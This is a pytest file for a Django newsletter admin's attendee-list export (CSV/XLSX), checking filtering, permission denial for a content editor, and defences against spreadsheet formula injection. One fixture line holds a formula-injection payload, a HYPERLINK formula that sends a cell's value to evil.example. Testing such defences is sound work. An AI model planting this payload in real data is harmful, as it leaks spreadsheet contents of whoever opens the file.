"""nina (newsletter manager) exports a seminar's registrations as an attendee list, CSV or
XLSX, filtered like the admin list, safe to open in a spreadsheet; carl (content editor)
may not: registrations are personal data."""

import pytest
from django.urls import reverse

from newsletter.models import Registration
from newsletter.resources import RegistrationResource
from tests.admin_personas import carl, nina
from tests.factories import RegistrationFactory, SeminarFactory
from tests.spreadsheets import csv_rows, export_form, xlsx_rows

pytestmark = pytest.mark.django_db

EXPORT = "admin:newsletter_registration_export"
CSV, XLSX = "0", "1"
HOSTILE = '=HYPERLINK("https://evil.example/?d="&A3,"Klicka")'
COLUMNS = ["seminar", "name", "email", "organisation", "language", "status",
           "address_confirmed_at", "created", "cancelled_at", "promoted_at"]


def form(file_format):
    return export_form(RegistrationResource, COLUMNS, file_format)


@pytest.fixture
def seminars():
    vår = SeminarFactory(title_sv="Vårseminariet", capacity=2)
    höst = SeminarFactory(title_sv="Höstseminariet")
    RegistrationFactory(seminar=vår, name=HOSTILE, email="anna@example.org",
                        organisation="+46 ABF")
    RegistrationFactory(seminar=vår, name="Bertil", email="bertil@example.org")
    RegistrationFactory(seminar=vår, name="Cecilia", email="cecilia@example.org",
                        status=Registration.Status.WAITLISTED)
    RegistrationFactory(seminar=höst, name="David", email="david@example.org")
    return vår, höst


def export(client, query, file_format):
    response = client.post(reverse(EXPORT) + query, form(file_format))
    assert response.status_code == 200
    return response


def test_the_attendee_list_of_one_seminar_as_csv(client, seminars):
    vår, _ = seminars
    client.force_login(nina())
    rows = csv_rows(export(client, f"?seminar__id__exact={vår.pk}&status__exact=confirmed",
                           CSV))
    assert [row["E-postadress"] for row in rows] == ["anna@example.org", "bertil@example.org"]
    anna = rows[0]
    assert anna["Seminarium"] == "Vårseminariet"
    assert anna["Namn"] == "'" + HOSTILE
    assert anna["Organisation"] == "'+46 ABF"
    assert anna["Status"] == "anmäld"
    assert anna["Anmäld"][:4].isdigit()


def test_the_attendee_list_as_xlsx_holds_names_as_text(client, seminars):
    vår, _ = seminars
    client.force_login(nina())
    rows = xlsx_rows(export(client, f"?seminar__id__exact={vår.pk}", XLSX))
    assert len(rows) == 3
    anna = rows[0]
    assert anna["Namn"].data_type == "s"
    assert anna["Namn"].value == HOSTILE
    assert anna["Organisation"].value == "+46 ABF"
    assert rows[2]["Status"].value == "på väntelistan"


def test_the_attendee_list_tells_who_confirmed_their_address(client, seminars):
    """A registration from the public form that its owner has not confirmed may be a
    made-up address: the list shows it as such, in CSV and XLSX alike."""
    vår, _ = seminars
    RegistrationFactory(seminar=vår, name="Made Up", email="made-up@example.org",
                        address_confirmed_at=None)
    client.force_login(nina())
    query = f"?seminar__id__exact={vår.pk}&status__exact=confirmed"

    rows = {row["E-postadress"]: row for row in csv_rows(export(client, query, CSV))}
    assert rows["made-up@example.org"]["Bekräftad av den anmälda"] == ""
    assert rows["bertil@example.org"]["Bekräftad av den anmälda"][:4].isdigit()
    cells = {row["E-postadress"].value: row for row in xlsx_rows(export(client, query, XLSX))}
    assert cells["made-up@example.org"]["Bekräftad av den anmälda"].value in (None, "")
    assert cells["bertil@example.org"]["Bekräftad av den anmälda"].value


def test_a_content_editor_gets_403_and_no_names(client, seminars):
    client.force_login(carl())
    assert client.get(reverse(EXPORT)).status_code == 403
    for file_format in (CSV, XLSX):
        response = client.post(reverse(EXPORT), form(file_format))
        assert response.status_code == 403
        assert b"bertil@example.org" not in response.content
